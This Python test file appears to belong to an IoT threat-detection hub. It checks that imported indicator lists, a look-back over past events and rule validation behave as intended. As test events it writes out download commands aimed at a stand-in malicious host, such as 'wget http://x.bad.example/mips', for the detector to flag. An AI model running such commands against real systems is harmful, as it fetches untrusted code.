"""Alerts of what lists know: as soon as it is imported, and for what the hub held before."""

import time
from pathlib import Path

import pytest
from detect_support import NOW, Rig, message, process

from vedette.hub.detect.rules import BUILT_IN, load
from vedette.hub.intel.indicators import indicator
from vedette.hub.intel.lookback import look_back
from vedette.hub.intel.store import Intel
from vedette.wire.events import DNS, NetworkActivity

RULES = load(*(BUILT_IN / f"bad_{name}.yml" for name in ("address", "name", "download")), built_in=False)


@pytest.fixture
def rig(tmp_path: Path) -> Rig:
    return Rig(tmp_path, RULES)


def connection(address: str) -> NetworkActivity:
    return NetworkActivity(
        local_address="192.0.2.2",
        local_port=40000,
        remote_address=address,
        remote_port=443,
        protocol="TCP",
        bytes_in=1,
        bytes_out=1,
        process_id=1,
        user_id=0,
    )


def query(name: str) -> DNS:
    return DNS(query_name=name, query_type="A", response_code="NOERROR", responding_server="192.0.2.53")


async def test_an_import_takes_effect_while_the_worker_runs(rig: Rig):
    """What was judged harmless is judged anew when it comes again; a removed list is asked no more."""
    worker = rig.worker()
    intel = Intel(rig.database)
    await rig.send(message(connection("203.0.113.66")))
    rig.judge(worker=worker)
    assert rig.types() == []
    intel.put_indicators("a", "a.txt", [indicator("203.0.113.0/24"), indicator("bad.example")])
    await rig.send(
        message(connection("203.0.113.66"), at=NOW + 60),
        message(process("wget http://x.bad.example/mips"), at=NOW + 60),
        message(query("x.bad.example"), query("notbad.example"), at=NOW + 60),
    )
    rig.judge(NOW + 60, worker)
    names = ["IoT_MaliciousNameQueriesDetection", "IoT_PossibleMalware", "IoT_TiConnection"]
    assert rig.types() == names
    assert [one.entity for one in rig.found() if one.type == "IoT_TiConnection"] == ["203.0.113.66"]
    intel.remove("a")
    await rig.send(message(connection("203.0.113.67"), at=NOW + 120))
    rig.judge(NOW + 120, worker)
    assert rig.types() == names


async def test_looking_back_raises_alerts_for_the_past_once(rig: Rig):
    """Events that came before the list did; a second look finds nothing new."""
    past = time.time() - 3600
    await rig.send(
        message(connection("203.0.113.66"), at=past),
        message(connection("203.0.113.66"), at=past - 30 * 86400),
        message(process("curl -O http://bad.example/x"), at=past),
        message(process("ls"), at=past),
    )
    rig.judge(past)
    Intel(rig.database).put_indicators("a", "a.txt", [indicator("203.0.113.66"), indicator("bad.example")])
    asked = (rig.lake, rig.database, RULES, past - 7 * 86400, past + 60)
    assert look_back(*asked) == (3, 2)
    assert rig.types() == ["IoT_PossibleMalware", "IoT_TiConnection"]
    assert look_back(*asked) == (3, 0)


@pytest.mark.parametrize(
    ("detection", "reason"),
    [
        ("DestinationIp|expand: '%office%'", "the lists here are %bad_addresses%"),
        ("DestinationIp|expand: 'x%bad_names%'", "the lists here are"),
        ("DestinationIp|re|expand: '^%bad_names%$'", "placeholder"),
    ],
)
def test_a_rule_that_asks_for_another_list_is_refused(tmp_path: Path, detection: str, reason: str):
    """It would fire on nothing, or on everything."""
    rule = tmp_path / "rule.yml"
    rule.write_text(
        "title: x\nlogsource: {product: linux, category: network_connection}\n"
        f"detection:\n  listed:\n    {detection}\n  condition: listed\n"
    )
    [refused] = load(rule, built_in=False).refused
    assert reason in refused.reason
